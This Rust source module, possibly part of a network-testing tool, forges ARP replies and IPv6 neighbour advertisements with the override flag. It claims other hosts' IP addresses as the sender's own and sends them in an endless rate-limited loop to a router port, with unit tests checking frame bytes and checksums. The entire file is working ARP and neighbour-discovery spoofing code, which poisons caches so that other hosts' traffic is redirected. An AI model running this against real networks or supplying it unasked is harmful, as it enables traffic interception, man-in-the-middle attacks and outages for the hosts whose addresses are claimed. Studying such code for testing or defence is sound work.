//! Forged ARP replies and neighbour advertisements: a host claims addresses of other hosts.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr},
    thread::sleep,
    time::{Duration, Instant},
};

use anyhow::{Result, ensure};

use super::spray::{Wire, folded, sum};

/// Interval at which due frames are sent.
const PACE: Duration = Duration::from_millis(5);

#[derive(Clone, Debug)]
pub struct ForgedSettings {
    pub interface: String,
    /// The receiver: a router's port.
    pub to: [u8; 6],
    /// The addresses of other hosts.
    pub claims: Vec<IpAddr>,
    /// The port's own address, to which an advertisement is sent; of the claims' family.
    pub told: IpAddr,
    pub per_second: u32,
}

/// Claims the addresses in turn until it is killed.
pub fn forge(settings: &ForgedSettings) -> Result<()> {
    let ForgedSettings { interface, to, claims, told, per_second } = settings;
    ensure!(!claims.is_empty(), "no address is to be claimed");
    let wire = Wire::open(interface)?;
    let frames: Vec<Vec<u8>> = claims
        .iter()
        .map(|claim| match (claim, told) {
            (IpAddr::V4(claim), IpAddr::V4(told)) => Ok(reply((wire.own, *claim), (*to, *told))),
            (IpAddr::V6(claim), IpAddr::V6(told)) => Ok(advertisement((wire.own, *claim), (*to, *told))),
            _ => anyhow::bail!("{claim} and {told} are of different families"),
        })
        .collect::<Result<_>>()?;
    let began = Instant::now();
    for (sent, frame) in frames.iter().cycle().enumerate() {
        while began.elapsed() * *per_second < Duration::from_secs(sent as u64) {
            sleep(PACE);
        }
        wire.send(frame)?;
    }
    Ok(())
}

/// An ARP reply (RFC 826).
fn reply((own, claim): ([u8; 6], Ipv4Addr), (to, told): ([u8; 6], Ipv4Addr)) -> Vec<u8> {
    let header = [0, 1, 8, 0, 6, 4, 0, 2];
    [&to[..], &own, &[8, 6], &header, &own, &claim.octets(), &to, &told.octets()].concat()
}

/// A solicited neighbour advertisement with the override flag (RFC 4861, 4.4).
fn advertisement((own, claim): ([u8; 6], Ipv6Addr), (to, told): ([u8; 6], Ipv6Addr)) -> Vec<u8> {
    let message = [&[136, 0, 0, 0, 0x60, 0, 0, 0][..], &claim.octets(), &[2, 1], &own].concat();
    let length = (message.len() as u16).to_be_bytes();
    let pseudo = [&claim.octets()[..], &told.octets(), &[0, 0], &length, &[0, 0, 0, 58]].concat();
    let checksum = folded(sum(&pseudo) + sum(&message)).to_be_bytes();
    let header = [&[0x60, 0, 0, 0][..], &length, &[58, 255], &claim.octets(), &told.octets()].concat();
    let mut frame = [&to[..], &own, &[0x86, 0xdd], &header, &message].concat();
    frame[14 + 40 + 2..14 + 40 + 4].copy_from_slice(&checksum);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    const OWN: [u8; 6] = [2, 9, 9, 9, 9, 9];
    const TO: [u8; 6] = [2, 0, 0, 0, 0, 1];

    #[test]
    fn a_reply_says_that_the_address_is_the_senders() {
        let frame = reply((OWN, Ipv4Addr::new(10, 77, 0, 31)), (TO, Ipv4Addr::new(10, 77, 0, 21)));
        assert_eq!(frame.len(), 42);
        assert_eq!(frame[20..32], [0, 2, 2, 9, 9, 9, 9, 9, 10, 77, 0, 31]);
    }

    #[test]
    fn an_advertisements_checksum_is_right() {
        let (claim, told) =
            (Ipv6Addr::new(0xfd77, 0, 0, 0, 0, 0, 0, 0x31), Ipv6Addr::new(0xfd77, 0, 0, 0, 0, 0, 0, 0x21));
        let frame = advertisement((OWN, claim), (TO, told));
        assert_eq!(frame.len(), 14 + 40 + 32);
        let pseudo = [&frame[22..54], &[0, 0, 0, 32, 0, 0, 0, 58]].concat();
        assert_eq!(folded(sum(&pseudo) + sum(&frame[54..])), 0);
    }
}
